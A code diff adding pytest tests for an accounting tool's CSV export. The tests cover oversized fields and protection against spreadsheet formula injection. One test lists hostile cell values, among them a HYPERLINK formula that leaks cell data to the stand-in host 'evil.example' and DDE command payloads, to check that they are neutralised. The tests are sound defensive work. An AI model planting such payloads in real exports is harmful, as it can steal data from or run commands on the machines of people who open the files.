@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import copy
+import csv
 from datetime import date, timedelta
 from decimal import Decimal
 from pathlib import Path
@@ -11,7 +12,8 @@ import pytest
 
 from precoro_assets.api.errors import PrecoroConnectionError, PrecoroServerError, PrecoroValidationError
 from precoro_assets.ledger.files import FileLedgerSink
-from precoro_assets.reconcile import CREATE_PAYMENT, SET_EXTERNAL_ID, Proposal
+from precoro_assets.ledger.source import BILL, CREDIT_NOTE, ExportDocument, ExportVendor
+from precoro_assets.reconcile import CREATE_PAYMENT, EXPORT, SET_EXTERNAL_ID, Proposal
 from precoro_assets.writeback.executor import WriteBack
 from precoro_assets.writeback.outbox import Outbox
 
@@ -144,3 +146,78 @@ def test_the_queue_never_duplicates_revives_or_double_claims(outbox: Outbox, tmp
     back = outbox.propose([pay(), pay("60.00", "L-2")], "batch-4")
     assert (back.new, back.known, back.revived) == (0, 1, 1)
     assert {r.ledger_ref: r.status for r in outbox.rows()} == {"L-1": "sent", "L-2": "pending"}
+
+
+# ---- exports that the accounting side's files can't take ----------------------------------------------------------
+
+def export(idn: str) -> Proposal:
+    return Proposal(EXPORT, "invoices", idn, 400000 + int(idn), {"supplier": "?", "number": "?", "amount": "1.00",
+                                                                 "currency": "EUR"}, "not in the ledger: offer it")
+
+
+def with_invoices_to_export(precoro: FakePrecoro, suppliers: dict[str, str]) -> FakePrecoro:
+    for idn, supplier in suppliers.items():
+        precoro.invoices[idn] = {**copy.deepcopy(precoro.invoices["7"]), "id": 400000 + int(idn), "idn": int(idn),
+                                 "supplier": {"name": supplier}, "invoiceNumber": f"INV-{idn}"}
+    return precoro
+
+
+def test_a_field_too_long_for_the_export_fails_alone_and_nothing_strands_in_sending(outbox: Outbox, tmp_path: Path):
+    huge = "Supplier " + "x" * 200 * 1024  # 200 KiB: over the csv module's 128 KiB field limit
+    precoro = with_invoices_to_export(FakePrecoro(), {"8": "ACME", "9": huge, "10": "Nordwind", "11": "Zeta"})
+    outbox.propose([export("8"), export("9"), pay(), export("10")], "batch-1")
+    run(precoro, outbox, tmp_path)
+    outbox.propose([export("11")], "batch-2")  # a later run, after the long name met the export file
+    run(precoro, outbox, tmp_path, "run-2")
+
+    status = {row.target_key: row for row in outbox.rows()}
+    assert {key: row.status for key, row in status.items()} == {
+        "7": "sent", "8": "sent", "9": "failed", "10": "sent", "11": "sent"}
+    assert "supplier is 204,809 characters long" in status["9"].last_error
+    assert outbox.counts()["sending"] == 0 and outbox.workable() == []
+    assert precoro.invoices["11"]["externalId"] == "ACC-BILL-11"
+
+
+def test_an_export_file_already_holding_a_huge_field_fails_its_rows_alone_with_the_reason(outbox: Outbox,
+                                                                                       tmp_path: Path):
+    # written by hand, or before exports were limited: every offer reads the file first
+    (tmp_path / "export").mkdir()
+    (tmp_path / "export" / "invoices.csv").write_text(
+        "external_id,precoro_idn,precoro_id,supplier,number,amount,currency,exported_at,type\n"
+        f"ACC-BILL-1,1,400001,{'x' * 200 * 1024},INV-1,1.00,EUR,2026-11-02T00:00:00+00:00,bill\n", encoding="utf-8")
+    precoro = with_invoices_to_export(FakePrecoro(), {"8": "ACME", "10": "Nordwind"})
+    outbox.propose([export("8"), pay(), export("10")], "batch-1")
+    run(precoro, outbox, tmp_path)
+
+    status = {row.target_key: row for row in outbox.rows()}
+    assert {key: row.status for key, row in status.items()} == {"7": "sent", "8": "failed", "10": "failed"}
+    assert all("invoices.csv can't be read" in status[key].last_error for key in ("8", "10"))
+    assert outbox.counts()["sending"] == 0
+
+
+def test_export_text_cells_cannot_run_as_spreadsheet_formulas_and_numbers_stay_numbers(tmp_path: Path):
+    hostile = {"8": '=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "9": "+1+cmd|' /C calc'!A0",
+               "10": "-2+3", "11": "@SUM(1+1)*cmd", "12": "\tcmd", "13": "\rcmd", "14": "'=already quoted",
+               "15": "Müller & Söhne"}
+    sink = FileLedgerSink(tmp_path)
+    for idn, supplier in hostile.items():
+        kind, amount = (CREDIT_NOTE, Decimal("-12.50")) if idn == "10" else (BILL, Decimal("12.50"))
+        assert sink.offer(ExportDocument("invoices", idn, 400000 + int(idn), supplier, supplier, amount, "EUR",
+                                         kind)).accepted
+    def exported() -> list[dict]:
+        with open(tmp_path / "export" / "invoices.csv", newline="", encoding="utf-8") as handle:
+            return list(csv.DictReader(handle))
+
+    rows = {row["precoro_idn"]: row for row in exported()}
+
+    for idn, supplier in hostile.items():
+        safe = supplier if idn == "15" else "'" + supplier
+        assert rows[idn]["supplier"] == rows[idn]["number"] == safe, idn
+    assert rows["10"]["amount"] == "-12.50" and rows["8"]["amount"] == "12.50"  # numbers, not text
+    # the sink still knows what it exported, by the exact names: offering again adds no line
+    assert sink.offer(ExportDocument("invoices", "8", 400008, hostile["8"], "x", Decimal("1"), "EUR")).accepted
+    assert len(exported()) == len(hostile)
+    sink.offer_vendor(ExportVendor(5, "=cmd|' /C calc'!A0"))
+    (tmp_path / "vendors.csv").write_text("vendor_id,name\nV-1,ACME\n")
+    assert sink.offer(ExportDocument("invoices", "20", 400020, "=cmd|' /C calc'!A0", "N-20", Decimal("1"),
+                                     "EUR")).accepted  # a vendor offered under a formula-like name is known by it
